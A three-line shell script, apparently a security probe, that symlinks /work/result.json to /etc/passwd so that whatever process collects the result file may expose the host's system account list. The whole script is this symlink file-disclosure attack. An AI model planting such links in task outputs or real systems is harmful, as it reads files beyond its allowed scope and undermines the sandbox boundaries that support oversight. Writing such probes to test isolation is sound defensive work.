#!/bin/sh
# Whose /etc/passwd will it be?
ln -s /etc/passwd /work/result.json
